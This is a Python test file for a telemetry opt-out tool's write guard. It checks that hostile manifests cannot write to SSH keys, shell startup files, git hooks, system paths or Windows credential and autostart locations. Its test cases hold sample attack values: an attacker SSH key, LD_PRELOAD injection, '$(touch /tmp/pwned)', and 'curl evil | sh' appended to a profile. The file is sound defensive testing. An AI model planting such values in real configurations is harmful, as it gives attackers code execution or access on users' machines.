"""Hostile manifests and the one safety gate: nothing written outside the allowed area, and a clear refusal."""

from __future__ import annotations

import ntpath
import os
import textwrap
from pathlib import Path

import pytest
from changes_helpers import changes, plant, reports, tree_snapshot

from tracklight.changes import shellblock
from tracklight.changes.safety import OutsideAreaError, Scope, WriteGuard
from tracklight.core import manifest
from tracklight.core.manifest import load_manifest_file
from tracklight.core.model import Os, Source
from tracklight.core.scan import scan
from tracklight.errors import FormatError, UnsafePathError


def user_manifest(home: Path, tool_id: str, controls: str) -> Path:
    """A manifest in the user's disclosures folder (anyone with the user's rights can put one there)."""
    folder = home / ".local" / "share" / "telemetry-disclosures"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{tool_id}.toml"
    path.write_text(textwrap.dedent(f"""\
        manifest_version = 1
        id = "{tool_id}"
        name = "Hostile {tool_id}"

        [detect]
        paths = ["~"]

        [telemetry]
        tier = "full"
        default = "on"
        """) + textwrap.dedent(controls))
    return path


class _NoRules:
    """write_rules as a manifest parser that skipped them would see it: everything allowed."""

    def __getattr__(self, name: str):  # type: ignore[no-untyped-def]
        return lambda *args, **kwargs: None


@pytest.fixture
def validation_off(monkeypatch: pytest.MonkeyPatch) -> None:
    """Manifests reach the writer as if `manifest validate` had not judged them (a cache, a bug, a future field):
    the writer's own checks must refuse the same things."""
    monkeypatch.setattr(manifest, "write_rules", _NoRules())
    monkeypatch.setattr(manifest, "path_template_problem", lambda *args: None)


HOSTILE = {
    "traversal": ('path = "~/../../etc/x"\nformat = "plain"\noff = "off"\n',
                  "manifest from a user folder can never direct a write"),
    "ssh": ('path = "~/.ssh/authorized_keys"\nformat = "plain"\noff = "ssh-ed25519 AAAA attacker"\n',
            "holds credentials"),
    "bashrc": ('path = "~/.bashrc"\nformat = "shellvars"\nkey = "PROMPT_COMMAND"\noff = "curl evil"\n',
               "shell startup"),
    "absolute-etc": ('path = "/etc/cron.d/evil"\nformat = "plain"\noff = "x"\n',
                     "manifest from a user folder can never direct a write"),
    "own-env-file": ('path = "~/.config/tracklight/env.sh"\nformat = "shellvars"\nkey = "X"\noff = "1"\n',
                     "Tracklight's own files"),
    "environment-d": (('path = "~/.config/environment.d/99-evil.conf"\nformat = "keyvalue"\nkey = "LD_PRELOAD"\n'
                      'off = "/tmp/evil.so"\n'), "startup or autostart"),
    "autostart": (('path = "~/.config/autostart/evil.desktop"\nformat = "ini"\nkey = "Desktop Entry.Exec"\n'
                  'off = "evil"\n'), "startup or autostart"),
    # Issue 13 hole 2: code execution without touching a deny-listed file.
    "pth": (('path = "~/.local/lib/python3.11/site-packages/evil.pth"\nformat = "plain"\noff = "import os"\n'),
            "not in a tool's config place"),
    "pth-in-config-place": (('path = "~/.local/share/evil/site-packages/evil.pth"\nformat = "plain"\n'
                             'off = "x"\n'), "'site-packages' folder"),
    "fsmonitor": (('path = "~/.gitconfig"\nformat = "gitconfig"\nkey = "core.fsmonitor"\noff = "evil"\n'),
                  "git's own settings"),
    "git-alias": (('path = "~/.gitconfig"\nformat = "gitconfig"\nkey = "alias.status"\noff = "evil"\n'),
                  "git's own settings"),
    "git-hook": (('path = "~/.evil/.git/hooks/post-checkout"\nformat = "plain"\noff = "x"\n'), "git repository"),
    "npmrc-node-options": (('path = "~/.npmrc"\nformat = "keyvalue"\nkey = "node-options"\noff = "x"\n'),
                           "names how a program loads or runs"),
    "vimrc": (('path = "~/.vimrc"\nformat = "plain"\noff = "x"\n'), "code that runs by design"),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_validation_refuses_each_hostile_manifest_so_no_scan_offers_it(case: str, home: Path) -> None:
    """What the writer refuses, `manifest validate` refuses first: the scan shows a problem, not a tool."""
    control, _reason = HOSTILE[case]
    path = user_manifest(home, f"evil-{case}", '[[telemetry.controls]]\nkind = "file"\n' + control)
    result = load_manifest_file(path)
    assert result.tool is None and result.problems and result.problems[0].line is not None
    assert scan().get(f"evil-{case}") is None


@pytest.mark.usefixtures("validation_off")
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_manifest_writes_nothing_and_says_why(case: str, home: Path, tmp_path: Path) -> None:
    control, reason = HOSTILE[case]
    plant(home / ".bashrc", "# my bashrc\n")
    plant(home / ".ssh" / "authorized_keys", "ssh-ed25519 AAAA me\n")
    user_manifest(home, f"evil-{case}", '[[telemetry.controls]]\nkind = "file"\n' + control)
    before = tree_snapshot(tmp_path)
    outcome = changes().optout(reports(f"evil-{case}"))
    assert outcome.applied is None
    assert [f.tool_id for f in outcome.plan.failures] == [f"evil-{case}"]
    error = outcome.plan.failures[0].error
    assert isinstance(error, UnsafePathError)
    assert reason in str(error)
    assert tree_snapshot(tmp_path) == before


ENV_ATTACKS = {name: "changes how programs load or run" for name in
               ("BASH_ENV", "ENV", "LD_PRELOAD", "PROMPT_COMMAND", "PATH", "NODE_OPTIONS")}
ENV_ATTACKS["EVIL_COLOR"] = "is not a telemetry switch"


@pytest.mark.usefixtures("validation_off")
@pytest.mark.parametrize("name", sorted(ENV_ATTACKS))
def test_an_env_name_that_runs_code_is_written_to_no_env_file(name: str, home: Path, tmp_path: Path) -> None:
    """Issue 13 hole 2: BASH_ENV, ENV, LD_PRELOAD, PROMPT_COMMAND, PATH, NODE_OPTIONS went into all three env files."""
    user_manifest(home, "evil-name", f'[[telemetry.controls]]\nkind = "env"\nname = "{name}"\noff = "1"\n')
    before = tree_snapshot(tmp_path)
    outcome = changes().optout(reports("evil-name"))
    assert outcome.applied is None and ENV_ATTACKS[name] in str(outcome.plan.failures[0].error)
    assert tree_snapshot(tmp_path) == before


@pytest.mark.usefixtures("validation_off")
@pytest.mark.parametrize("separator", ["\\u2028", "\\u2029", "\\u0085", "\\u000b", "\\u000c"])  # TOML escapes
def test_a_value_with_a_line_separator_is_written_nowhere(separator: str, home: Path, tmp_path: Path) -> None:
    """Issue 13 hole 2: U+2028 or U+0085 in a value was written, and Tracklight's own reader then split it into a
    second line, so `. env.sh` set an extra variable."""
    user_manifest(home, "evil-sep", '[[telemetry.controls]]\nkind = "env"\nname = "EVIL_TELEMETRY"\n'
                  f'off = "1{separator}LD_PRELOAD=/tmp/evil.so"\n')
    before = tree_snapshot(tmp_path)
    outcome = changes().optout(reports("evil-sep"))
    assert outcome.applied is None and "is not a switch value" in str(outcome.plan.failures[0].error)
    assert tree_snapshot(tmp_path) == before


def test_symlink_pointing_out_of_home_is_not_followed(home: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = plant(outside / "config.json", '{"keep": true}\n')
    (home / ".config").mkdir()
    os.symlink(outside, home / ".config" / "evil")
    user_manifest(home, "evil-link", """\
        [[telemetry.controls]]
        kind = "file"
        path = "~/.config/evil/config.json"
        format = "json"
        key = "telemetry"
        off = false
        """)
    outcome = changes().optout(reports("evil-link"))
    error = outcome.plan.failures[0].error
    assert isinstance(error, UnsafePathError) and "symlink" in str(error) and "outside your home" in str(error)
    assert (outside / "config.json").read_bytes() == victim


@pytest.mark.usefixtures("validation_off")
def test_hostile_env_value_is_refused_before_anything_is_written(home: Path, tmp_path: Path) -> None:
    user_manifest(home, "evil-env", """\
        [[telemetry.controls]]
        kind = "env"
        name = "EVIL_TELEMETRY"
        off = "$(touch /tmp/pwned)"
        """)
    before = tree_snapshot(tmp_path)
    outcome = changes().optout(reports("evil-env"))
    assert isinstance(outcome.plan.failures[0].error, FormatError)
    assert "is not a switch value" in str(outcome.plan.failures[0].error)
    assert outcome.applied is None and tree_snapshot(tmp_path) == before


@pytest.mark.usefixtures("validation_off")
def test_a_hostile_tool_does_not_stop_the_others(home: Path) -> None:
    user_manifest(home, "evil-ssh", '[[telemetry.controls]]\nkind = "file"\n' + HOSTILE["ssh"][0])
    outcome = changes().optout(reports("evil-ssh", "dotnet"))
    assert [f.tool_id for f in outcome.plan.failures] == ["evil-ssh"]
    assert outcome.applied is not None and outcome.applied.tool_ids == ("dotnet",)
    assert not (home / ".ssh").exists()


# ---------------------------------------------------------------- the guard itself


def guard(scope: Scope = Scope.USER) -> WriteGuard:
    return WriteGuard.for_env(dict(os.environ), Os.LINUX, scope)


def catalog_tool(tool_id: str):  # type: ignore[no-untyped-def]
    return reports(tool_id)[0].tool


def test_catalog_system_file_in_user_scope_points_to_policy_apply(home: Path) -> None:
    sysroot = Path(os.environ["TRACKLIGHT_SYSTEM_ROOT"])
    with pytest.raises(OutsideAreaError, match="tracklight policy apply"):
        guard().check_tool_file(str(sysroot / "etc/grafana/grafana.ini"), catalog_tool("grafana"))


def test_user_scope_allows_an_ordinary_preference_file(home: Path) -> None:
    path = home / ".config" / "Code" / "User" / "settings.json"
    assert guard().check_tool_file(str(path), catalog_tool("vscode")) == str(path)


def test_a_link_inside_home_to_a_dotfiles_folder_is_fine(home: Path) -> None:
    (home / "dotfiles" / "Code").mkdir(parents=True)
    (home / ".config").mkdir()
    os.symlink(home / "dotfiles" / "Code", home / ".config" / "Code")
    path = home / ".config" / "Code" / "settings.json"
    assert guard().check_tool_file(str(path), catalog_tool("vscode")) == str(home / "dotfiles/Code/settings.json")


def test_a_link_inside_home_to_credentials_is_refused(home: Path) -> None:
    (home / ".ssh").mkdir()
    (home / ".config").mkdir()
    os.symlink(home / ".ssh", home / ".config" / "innocent")
    with pytest.raises(UnsafePathError, match="credentials"):
        guard().check_tool_file(str(home / ".config/innocent/config"), catalog_tool("vscode"))


def test_system_scope_follows_the_catalog_but_never_into_forbidden_files(home: Path) -> None:
    sysroot = Path(os.environ["TRACKLIGHT_SYSTEM_ROOT"])
    grafana = catalog_tool("grafana")
    target = sysroot / "etc/grafana/grafana.ini"
    assert guard(Scope.SYSTEM).check_tool_file(str(target), grafana) == str(target)
    for forbidden in ("etc/shadow", "etc/sudoers.d/x", "etc/profile.d/evil.sh", "root/.bashrc", "usr/bin/ls"):
        with pytest.raises(UnsafePathError, match="never writes"):
            guard(Scope.SYSTEM).check_tool_file(str(sysroot / forbidden), grafana)


def test_system_scope_never_writes_an_environment_d_file_of_its_own_choosing(home: Path) -> None:
    """Issue 13 hole 1: a planted entry made root write LD_PRELOAD into /etc/environment.d/90-tracklight-x.conf
    (the deny-list had /etc/environment, not environment.d). Tracklight's own 60-tracklight.conf is written by the
    policy plan as a file it owns, never through a tool's control."""
    sysroot = Path(os.environ["TRACKLIGHT_SYSTEM_ROOT"])
    for name in ("etc/environment.d/90-tracklight-x.conf", "etc/environment", "etc/X11/Xsession.d/90-x",
                 "etc/apt/apt.conf.d/99-x", "usr/local/lib/python3.11/dist-packages/x.pth"):
        with pytest.raises(UnsafePathError, match="never writes"):
            guard(Scope.SYSTEM).check_tool_file(str(sysroot / name), catalog_tool("dotnet"))


def test_system_scope_refuses_a_symlink_out_of_the_root(home: Path, tmp_path: Path) -> None:
    sysroot = Path(os.environ["TRACKLIGHT_SYSTEM_ROOT"])
    (sysroot / "etc").mkdir(parents=True)
    os.symlink(tmp_path / "elsewhere", sysroot / "etc" / "grafana")
    with pytest.raises(UnsafePathError, match="outside the system root"):
        guard(Scope.SYSTEM).check_tool_file(str(sysroot / "etc/grafana/grafana.ini"), catalog_tool("grafana"))


def _system_manifest(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "acme.toml"
    path.write_text('manifest_version = 1\nid = "acme"\nname = "Acme"\n[telemetry]\ntier = "full"\n'
                    'default = "on"\n')
    return path


def test_system_scope_follows_a_manifest_only_when_root_owns_it(home: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root to give files away (chown)")
    sysroot = Path(os.environ["TRACKLIGHT_SYSTEM_ROOT"])
    target = str(sysroot / "etc/acme/config")
    path = _system_manifest(sysroot / "usr/share/telemetry-disclosures")
    path.chmod(0o644)
    path.parent.chmod(0o755)
    tool = load_manifest_file(path, Source.MANIFEST).tool
    assert tool is not None
    assert guard(Scope.SYSTEM).check_tool_file(target, tool) == target

    os.chown(path, 1000, 1000)
    with pytest.raises(UnsafePathError, match="not a root-owned system manifest"):
        guard(Scope.SYSTEM).check_tool_file(target, tool)
    os.chown(path, 0, 0)
    path.parent.chmod(0o775)  # a group that may add files there could plant its own
    with pytest.raises(UnsafePathError, match="not a root-owned system manifest"):
        guard(Scope.SYSTEM).check_tool_file(target, tool)


def test_system_scope_never_follows_a_manifest_from_a_home_folder(home: Path) -> None:
    sysroot = Path(os.environ["TRACKLIGHT_SYSTEM_ROOT"])
    path = _system_manifest(home / ".local/share/telemetry-disclosures")
    path.chmod(0o644)
    tool = load_manifest_file(path, Source.MANIFEST).tool
    assert tool is not None
    with pytest.raises(UnsafePathError, match="not a root-owned system manifest"):
        guard(Scope.SYSTEM).check_tool_file(str(sysroot / "etc/acme/config"), tool)


def test_startup_files_may_change_only_by_tracklights_block(home: Path) -> None:
    profile = home / ".profile"
    before = b"export EDITOR=vi\n"
    env_sh = os.path.join(home, ".config/tracklight/env.sh")
    ours = shellblock.encode(shellblock.add_block(before.decode(), env_sh, str(home)))
    assert guard().check_env_file(str(profile), before, ours) == str(profile)
    sneaky = ours + b"curl evil | sh\n"
    with pytest.raises(UnsafePathError, match="only Tracklight's marked block"):
        guard().check_env_file(str(profile), before, sneaky)
    other_body = ours.replace(b"env.sh", b"evil.sh")
    with pytest.raises(UnsafePathError, match="only source its own env.sh"):
        guard().check_env_file(str(profile), before, other_body)
    with pytest.raises(UnsafePathError, match="credentials"):
        guard().check_env_file(str(home / ".ssh/rc"), None, ours)


# ---------------------------------------------------------------- Windows, judged with ntpath on any OS

WINDOWS_ENV = {"USERPROFILE": "C:\\Users\\Me", "APPDATA": "C:\\Users\\Me\\AppData\\Roaming",
               "LOCALAPPDATA": "C:\\Users\\Me\\AppData\\Local"}


def windows_guard(env: dict[str, str] | None = None, links: dict[str, str] | None = None,
                  scope: Scope = Scope.USER) -> WriteGuard:
    """A Windows guard; `links` stands in for symlinks and junctions (a folder -> where it really is)."""
    links = {ntpath.normcase(k): v for k, v in (links or {}).items()}

    def resolve(path: str) -> str:
        path = ntpath.normpath(path)
        for link, target in links.items():
            if ntpath.normcase(path) == link or ntpath.normcase(path).startswith(link + "\\"):
                return ntpath.normpath(target + path[len(link):])
        return path

    return WriteGuard.for_env(env or WINDOWS_ENV, Os.WINDOWS, scope, resolve=resolve)


@pytest.mark.parametrize("path", [
    "C:\\Users\\Me\\AppData\\Roaming\\Code\\User\\settings.json",
    "c:/users/me/AppData/Roaming/Code/User/settings.json",  # either separator, any case, as Windows allows
    "C:\\Users\\ME\\.config\\configstore\\snyk.json",
    "C:\\Users\\Me\\AppData\\Local\\Syncthing\\config.xml",
    "C:\\Users\\Me\\AppData\\Roaming\\gcloud\\configurations\\config_default",
    "C:\\Users\\Me\\AppData\\Roaming\\GitHub CLI\\config.yml",
])
def test_windows_allows_ordinary_preference_files_in_the_profile(path: str) -> None:
    assert windows_guard().check_tool_file(path, catalog_tool("vscode")) == ntpath.normpath(path)


@pytest.mark.parametrize("path", [
    "C:\\Users\\Me\\.ssh\\authorized_keys",
    "C:\\Users\\Me\\.SSH\\config",
    "c:/users/me/.ssh/id_ed25519",
    "C:\\Users\\Me\\AppData\\Roaming\\gnupg\\gpg-agent.conf",
    "C:\\Users\\Me\\AppData\\Roaming\\GnuPG\\pubring.kbx",
    "C:\\Users\\Me\\.aws\\credentials",
    "C:\\Users\\Me\\.AWS\\Credentials",
    "C:\\Users\\Me\\.docker\\config.json",
    "C:\\Users\\Me\\_netrc",
    "C:\\Users\\Me\\AppData\\Roaming\\Microsoft\\Credentials\\ABCDEF",
    "C:\\Users\\Me\\AppData\\Roaming\\Microsoft\\Protect\\S-1-5-21\\key",
    "C:\\Users\\Me\\AppData\\Roaming\\GitHub CLI\\hosts.yml",
    "C:\\Users\\Me\\AppData\\Roaming\\gcloud\\credentials.db",
    "C:\\Users\\Me\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
    "C:\\Users\\Me\\keys\\server.ppk",
])
def test_windows_refuses_credentials_whatever_the_case_or_separator(path: str) -> None:
    with pytest.raises(UnsafePathError, match="holds credentials") as caught:
        windows_guard().check_tool_file(path, catalog_tool("vscode"))
    assert not isinstance(caught.value, OutsideAreaError)


@pytest.mark.parametrize("path", [
    "C:\\Users\\Me\\Documents\\PowerShell\\Microsoft.PowerShell_profile.ps1",
    "C:\\Users\\Me\\Documents\\WindowsPowerShell\\Microsoft.PowerShell_profile.ps1",
    "C:\\Users\\Me\\Documents\\WindowsPowerShell\\profile.ps1",
    "c:/users/me/documents/powershell/Modules/Evil/Evil.psm1",
    "C:\\Users\\Me\\OneDrive\\Documents\\PowerShell\\Microsoft.PowerShell_profile.ps1",
    "C:\\Users\\Me\\OneDrive - Contoso\\Documents\\WindowsPowerShell\\profile.ps1",
    "C:\\Users\\Me\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\updater.ini",
    "C:\\Users\\Me\\.bashrc",  # Git Bash reads it
])
def test_windows_refuses_startup_files(path: str) -> None:
    with pytest.raises(UnsafePathError, match="startup or autostart"):
        windows_guard().check_tool_file(path, catalog_tool("vscode"))


@pytest.mark.parametrize("path", [
    "C:\\Users\\Me\\AppData\\Local\\Microsoft\\WindowsApps\\python.exe",
    "C:\\Users\\Me\\AppData\\Local\\Acme\\update.cmd",
    "C:\\Users\\Me\\Desktop\\Acme.lnk",
    "C:\\Users\\Me\\NTUSER.DAT",
])
def test_windows_refuses_files_windows_runs(path: str) -> None:
    with pytest.raises(UnsafePathError, match="program, script or shortcut|startup or autostart"):
        windows_guard().check_tool_file(path, catalog_tool("vscode"))


@pytest.mark.parametrize(("path", "reason"), [
    ("\\\\server\\share\\Me\\settings.json", "network \\(UNC\\) or device path"),
    ("//server/share/Me/settings.json", "network \\(UNC\\) or device path"),
    ("\\\\?\\C:\\Users\\Me\\settings.json", "network \\(UNC\\) or device path"),
    ("\\\\.\\pipe\\evil", "network \\(UNC\\) or device path"),
    ("\\Users\\Me\\settings.json", "not an absolute path with a drive letter"),
    ("C:Users\\Me\\settings.json", "not an absolute path with a drive letter"),
    ("AppData\\Roaming\\x.json", "not an absolute path with a drive letter"),
    ("C:\\Users\\Me\\settings.json:hidden", "alternate data stream"),
    ("C:\\Users\\Me\\AppData\\nul.json", "reserves for a device"),
    ("C:\\Users\\Me\\COM1", "reserves for a device"),
    ("C:\\Users\\Me\\.ssh.\\authorized_keys", "ending in a dot or a space"),
    ("C:\\Users\\Me\\.ssh \\authorized_keys", "ending in a dot or a space"),
    ("C:\\Users\\Me\\AWS~1\\config", "short \\(8.3\\) name"),
])
def test_windows_refuses_paths_that_are_not_what_they_seem(path: str, reason: str) -> None:
    with pytest.raises(UnsafePathError, match=reason) as caught:
        windows_guard().check_tool_file(path, catalog_tool("vscode"))
    assert not isinstance(caught.value, OutsideAreaError)


@pytest.mark.parametrize("path", [
    "D:\\Users\\Me\\settings.json",  # another drive
    "C:\\Users\\Me2\\settings.json",  # a name that merely starts like home
    "C:\\Users\\Me\\..\\Other\\settings.json",
    "C:/Users/Me/AppData/../../../Windows/System32/drivers/etc/hosts",
    "C:\\Program Files\\Mozilla Firefox\\distribution\\policies.json",
])
def test_windows_outside_the_profile_is_another_area(path: str) -> None:
    with pytest.raises(OutsideAreaError, match="outside your user profile"):
        windows_guard().check_tool_file(path, catalog_tool("firefox"))


def test_windows_tracklights_own_files_are_not_a_manifest_target() -> None:
    for path in ("C:\\Users\\Me\\AppData\\Roaming\\Tracklight\\settings.toml",
                 "c:/users/me/appdata/local/TRACKLIGHT/state/journal/x.json"):
        with pytest.raises(UnsafePathError, match="Tracklight's own files"):
            windows_guard().check_tool_file(path, catalog_tool("vscode"))


def test_windows_junction_out_of_the_profile_is_not_followed() -> None:
    guard = windows_guard(links={"C:\\Users\\Me\\AppData\\Roaming\\Acme": "D:\\Shared\\Acme"})
    with pytest.raises(UnsafePathError, match="symlink to D:\\\\Shared\\\\Acme\\\\config.json, outside your home"):
        guard.check_tool_file("C:\\Users\\Me\\AppData\\Roaming\\acme\\config.json", catalog_tool("vscode"))


def test_windows_junction_inside_the_profile_is_judged_where_it_leads() -> None:
    guard = windows_guard(links={"C:\\Users\\Me\\dotfiles": "C:\\Users\\Me\\.ssh",
                                 "C:\\Users\\Me\\AppData\\Roaming\\Code": "C:\\Users\\Me\\sync\\Code"})
    with pytest.raises(UnsafePathError, match="credentials"):
        guard.check_tool_file("C:\\Users\\Me\\dotfiles\\config", catalog_tool("vscode"))
    settings = "C:\\Users\\Me\\AppData\\Roaming\\Code\\User\\settings.json"
    assert guard.check_tool_file(settings, catalog_tool("vscode")) == "C:\\Users\\Me\\sync\\Code\\User\\settings.json"


def test_windows_realpaths_verbatim_prefix_is_judged_as_the_drive_path_it_names() -> None:
    guard = windows_guard(links={"C:\\Users\\Me\\AppData\\Roaming\\Acme": "\\\\?\\C:\\Users\\Me\\long\\Acme",
                                 "C:\\Users\\Me\\keys": "\\\\?\\C:\\Users\\Me\\.ssh"})
    assert guard.check_tool_file("C:\\Users\\Me\\AppData\\Roaming\\Acme\\config.json", catalog_tool("vscode")) == (
        "C:\\Users\\Me\\long\\Acme\\config.json")
    with pytest.raises(UnsafePathError, match="credentials"):
        guard.check_tool_file("C:\\Users\\Me\\keys\\config", catalog_tool("vscode"))


def test_windows_link_to_a_network_share_is_refused() -> None:
    guard = windows_guard(links={"C:\\Users\\Me\\AppData\\Roaming\\Acme": "\\\\nas\\share\\Acme"})
    with pytest.raises(UnsafePathError, match="resolves to .*network \\(UNC\\)"):
        guard.check_tool_file("C:\\Users\\Me\\AppData\\Roaming\\Acme\\config.json", catalog_tool("vscode"))


def test_windows_redirected_appdata_counts_as_the_users_and_keeps_its_deny_list() -> None:
    env = {**WINDOWS_ENV, "APPDATA": "D:\\Profiles\\Me\\Roaming"}
    guard = windows_guard(env)
    settings = "D:\\Profiles\\Me\\Roaming\\Code\\User\\settings.json"
    assert guard.check_tool_file(settings, catalog_tool("vscode")) == settings
    with pytest.raises(UnsafePathError, match="credentials"):
        guard.check_tool_file("D:\\Profiles\\Me\\Roaming\\gnupg\\gpg.conf", catalog_tool("vscode"))
    with pytest.raises(UnsafePathError, match="startup or autostart"):
        guard.check_tool_file("d:/profiles/me/roaming/Microsoft/Windows/Start Menu/Programs/Startup/x.ini",
                              catalog_tool("vscode"))
    with pytest.raises(OutsideAreaError):  # the rest of that drive is not the user's
        guard.check_tool_file("D:\\Profiles\\Other\\settings.json", catalog_tool("vscode"))


def test_windows_only_appdata_folders_widen_the_area_and_never_to_a_whole_drive() -> None:
    guard = windows_guard({**WINDOWS_ENV, "APPDATA": "D:\\", "LOCALAPPDATA": "\\\\server\\local",
                           "XDG_CONFIG_HOME": "E:\\config"})
    for path in ("D:\\Acme\\config.json", "E:\\config\\acme\\config.json", "\\\\server\\local\\x.json"):
        with pytest.raises(UnsafePathError):
            guard.check_tool_file(path, catalog_tool("vscode"))


def test_windows_profile_on_a_network_share_refuses_every_write() -> None:
    guard = windows_guard({"USERPROFILE": "\\\\fileserver\\profiles\\Me"})
    with pytest.raises(UnsafePathError, match="your home folder .* network \\(UNC\\)"):
        guard.check_tool_file("C:\\Users\\Me\\AppData\\Roaming\\Code\\User\\settings.json", catalog_tool("vscode"))


def test_windows_manifest_cannot_reach_outside_the_profile() -> None:
    tool = catalog_tool("vscode")
    manifest_tool = type(tool)(**{**tool.__dict__, "source": Source.MANIFEST})
    with pytest.raises(UnsafePathError, match="manifest from a user folder") as caught:
        windows_guard().check_tool_file("C:\\Windows\\System32\\drivers\\etc\\hosts", manifest_tool)
    assert not isinstance(caught.value, OutsideAreaError)


def test_windows_env_store_may_write_only_its_own_files() -> None:
    guard = windows_guard()
    env_sh = "C:\\Users\\Me\\AppData\\Roaming\\Tracklight\\env.sh"
    assert guard.check_env_file(env_sh, None, b"export A='1'\n") == env_sh
    assert guard.check_env_file("c:/users/me/appdata/roaming/tracklight/ENV.SH", None, b"") is not None
    profile = "C:\\Users\\Me\\Documents\\PowerShell\\Microsoft.PowerShell_profile.ps1"
    with pytest.raises(UnsafePathError, match="program, script or shortcut"):
        guard.check_env_file(profile, b"", b"")
    with pytest.raises(UnsafePathError, match="credentials"):
        guard.check_env_file("C:\\Users\\Me\\.ssh\\rc", None, b"")
    with pytest.raises(UnsafePathError, match="network"):
        guard.check_env_file("\\\\server\\share\\env.sh", None, b"")


def test_windows_has_no_system_scope_for_files() -> None:
    with pytest.raises(UnsafePathError, match="no system-wide files on Windows"):
        windows_guard(scope=Scope.SYSTEM).check_tool_file("C:\\ProgramData\\conda\\condarc", catalog_tool("vscode"))


def test_windows_rules_do_not_leak_into_linux(home: Path) -> None:
    # On Linux a backslash, a colon, `nul` or `.cmd` are ordinary in a file name.
    for name in (".config/acme/nul.json", ".config/acme/run.cmd", ".config/acme/a\\b:c.json"):
        path = home / name
        assert guard().check_tool_file(str(path), catalog_tool("vscode")) == str(path)


@pytest.mark.parametrize("home", [None, "", "/"])
def test_no_home_or_a_home_at_the_root_refuses_every_user_write(home) -> None:
    """With HOME unset or empty the home folder would be `/`: nothing may be written then, not even as root."""
    from tracklight.changes.safety import Scope, WriteGuard
    from tracklight.core.model import Os
    from tracklight.errors import UnsafePathError

    env = {"PATH": "/usr/bin"} if home is None else {"PATH": "/usr/bin", "HOME": home}
    guard = WriteGuard.for_env(env, Os.LINUX, Scope.USER)
    with pytest.raises(UnsafePathError, match="home folder"):
        guard.check_tool_file("/.config/nextjs-nodejs/config.json", None)
    for path in ("/.profile", "/.config/environment.d/60-tracklight.conf", "/.config/tracklight/env.sh"):
        with pytest.raises(UnsafePathError):
            guard.check_env_file(path, None, b"X=1\n")
